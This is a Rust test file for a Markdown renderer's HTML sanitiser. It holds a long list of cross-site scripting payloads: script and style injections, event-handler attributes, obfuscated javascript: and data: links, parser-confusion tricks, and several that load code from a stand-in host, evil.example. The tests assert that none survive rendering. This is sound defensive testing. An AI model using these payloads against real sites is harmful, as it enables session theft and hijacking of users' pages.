//! Attempts to get a script, a style or a foreign document into a page.

use super::strict;
use super::{Fill, Markdown, Options, RawHtml, parse, parse_inline};
use crate::ground::text::escape_attribute;
use crate::reading::wording::Wording;

/// As a page would print it.
fn printed(markdown: &Markdown) -> String {
    let mut html = String::new();
    markdown.body.fill(&mut html, |fill, out| match fill {
        // Companies are linked once an article is understood.
        Fill::MentionStart { .. } | Fill::MentionEnd => {}
        Fill::Href { reference } => escape_attribute(out, &markdown.references[*reference as usize].target),
        Fill::Word { word, number } => {
            escape_attribute(out, &Wording::default().filled(word.key(), &[("number", number)]));
        }
        Fill::Fragment { id } => out.push_str(&format!("#{id}")),
        Fill::Image { reference, alt, .. } => {
            out.push_str("<img src=\"");
            escape_attribute(out, &markdown.references[*reference as usize].target);
            out.push_str("\" alt=\"");
            escape_attribute(out, alt);
            out.push_str("\">");
        }
    });
    html
}

const ATTEMPTS: &[&str] = &[
    // Elements.
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>steal()</script\n>",
    "<script/x>steal()</script>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<<script>steal()//<</script>",
    "a <script>steal()</script> b",
    "a <script>*steal()*</script> b",
    "<script>steal()",
    "<div><script>steal()</div></script>",
    "<script src=data:,steal()></script>",
    "> <script>\n> steal()\n> </script>",
    "- <script>\n\n  steal()\n\n- </script>",
    "<style>@import '//evil.example';</style>",
    "<style><img src='</style><img src=x onerror=steal()>'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
    "<base href=//evil.example/>",
    "<iframe src=javascript:steal()></iframe>",
    "<iframe srcdoc='<script>steal()</script>'>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=javascript:steal()><input type=submit></form>",
    "<button formaction=javascript:steal()>a</button>",
    "<svg onload=steal()><a xlink:href=javascript:steal()>a</a></svg>",
    "<svg><script href=data:,steal() /></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=steal()>",
    "<math href=javascript:steal()>a</math>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<textarea><p title='</textarea><img src=x onerror=steal()>'>",
    "<title><a title='</title><img src=x onerror=steal()>'>",
    "<xmp><p title='</xmp><img src=x onerror=steal()>'></xmp>",
    "<template><img src=x onerror=steal()></template>",
    "<video><source onerror=steal()></video><audio src=x onerror=steal()>",
    "<marquee onstart=steal()>a</marquee><isindex type=image src=x onerror=steal()>",
    "<x-card is=x onclick=steal()>a</x-card>",
    "<frameset onload=steal()><frame src=javascript:steal()></frameset>",
    "<plaintext><img src=x onerror=steal()>",
    // Attributes.
    "<img src=x onerror=steal()>",
    "<img src=x onerror = \"steal()\">",
    "<img/src=x/onerror=steal()>",
    "<img src='x' ONERROR='steal()'>",
    "<img src=x:x onerror=steal()>",
    "<img src=\"x` `<script>steal()</script>\"` `>",
    "<img src=x title='\" onerror=\"steal()'>",
    "<img src=x alt='\"><script>steal()</script>'>",
    "<img \"\"\"><script>steal()</script>\">",
    "<b onmouseover=steal()>a</b>",
    "<b style='background:url(javascript:steal())' class=x>a</b>",
    "<p title=\"&quot; onclick=&quot;steal()\">a</p>",
    "<details open ontoggle=steal()><summary>a</summary></details>",
    "<a href=# onclick=steal()>a</a>",
    "<div id='x\" onclick=\"steal()'>a</div>",
    "<table background=javascript:steal()><td background=javascript:steal()>a",
    "<a href='x' href='javascript:steal()'>a</a>",
    "<time datetime='\"><script>steal()</script>'>a</time>",
    "<q cite=javascript:steal()>a</q>",
    // Addresses.
    "<a href=javascript:steal()>a</a>",
    "<a href=' &#14; javascript:steal()'>a</a>",
    "<a href='java\tscript:steal()'>a</a>",
    "<a href='jav&#x0A;ascript:steal()'>a</a>",
    "<a href='&#106&#97&#118&#97script:steal()'>a</a>",
    "<a href='&#0000106avascript&colon;steal()'>a</a>",
    "<a href='javascript&#x3A;steal()'>a</a>",
    "<a href=\"JaVaScRiPt:steal()\">a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
    "<a href='vbscript:steal()'>a</a>",
    "<img src='javascript:steal()'><img src='data:image/svg+xml,<svg onload=steal()>'>",
    "[a](javascript:steal())",
    "[a](JAVASCRIPT:steal())",
    "[a](  javascript:steal() )",
    "[a](<java\u{1}script:steal()>)",
    "[a](&#x6A;avascript:steal())",
    "[a](java&NewLine;script&colon;steal())",
    "[a](\u{1}javascript:steal())",
    "[a](\u{a0}javascript:steal())",
    "[a](data:text/html,<script>steal()</script>)",
    "[a]: javascript:steal()\n[a]",
    "<javascript:steal()>",
    "![a](javascript:steal())",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](https://x.example/\"onclick=\"steal())",
    "[a](x.md \"t\\\" onclick=\\\"steal()\")",
    "![\" onerror=\"steal()](x.png)",
    "![a](x\"onerror=\"steal().png)",
    "[![a](x.png \"b\\\"><script>\")](javascript:steal())",
    "https://x.example/\"onmouseover=steal()//",
    "www.x.example/<script>steal()</script>",
    "[a](//evil.example\\\"onclick=steal())",
    // Structure.
    "```\"onclick=steal()\nx\n```",
    "```<script>\nx\n```",
    "# a {#x\"onclick=\"steal()}",
    "# <script>steal()</script>",
    "[^<script>]\n\n[^<script>]: a",
    "|<script>|\n|-|\n|steal()</script>|",
    "<!--><script>steal()</script>-->",
    "<!--[if IE]><script>steal()</script><![endif]-->",
    "<!-- --!><script>steal()</script> -->",
    "<![CDATA[<script>steal()</script>]]>",
    "<?xml version='1.0'?><script>steal()</script>",
    "<!DOCTYPE a [<!ENTITY b '<script>steal()</script>'>]>&b;",
    "<a href=\"x\"><a href=\"y\"><table><a href=z>a</table></a>",
    "<p><svg><p><style><a id='</style><img src=x onerror=steal()>'>",
    "</p></div></article></main><script>steal()</script>",
    "<b><p></b><script>steal()</script></p>",
    "&lt;script&gt;steal()&lt;/script&gt;",
    "\\<script>steal()\\</script>",
    "<div>&lt;script&gt;steal()&lt;/script&gt;</div>",
];

#[test]
fn nothing_gets_through() {
    for attempt in ATTEMPTS {
        for raw_html in [RawHtml::Sanitise, RawHtml::Escape] {
            let options = Options {
                outward: false,
                smart: false,
                raw_html,
            };
            for markdown in [parse(attempt, 0, options), parse_inline(attempt, 0, options)] {
                let html = printed(&markdown);
                if let Err(problem) = strict::examine(&html) {
                    panic!("{attempt}\n{html}\n{problem}");
                }
                let lower = html.to_lowercase();
                assert!(
                    !lower.contains("<script") && !lower.contains("<style") && !lower.contains("<svg"),
                    "{html}"
                );
            }
        }
    }
}

#[test]
fn the_examiner_sees_what_is_wrong() {
    for bad in [
        "<script>",
        "<b>",
        "</b>",
        "<b></i>",
        "<b onclick=\"x\"></b>",
        "<b title=x></b>",
        "<b title='x'></b>",
        "a > b",
        "a & b",
        "&nbsp;",
        "<a href=\"javascript:x\"></a>",
        "<a href=\"java&#10;script:x\"></a>",
        "<a><a></a></a>",
        "<b id=\"x\" id=\"x\"></b>",
        "<i id=\"x\"></i><i id=\"x\"></i>",
        "<a href=\"#fn-1\"></a>",
        "\u{1}",
        "<b",
        "<B></B>",
    ] {
        assert!(strict::examine(bad).is_err(), "{bad}");
    }
}
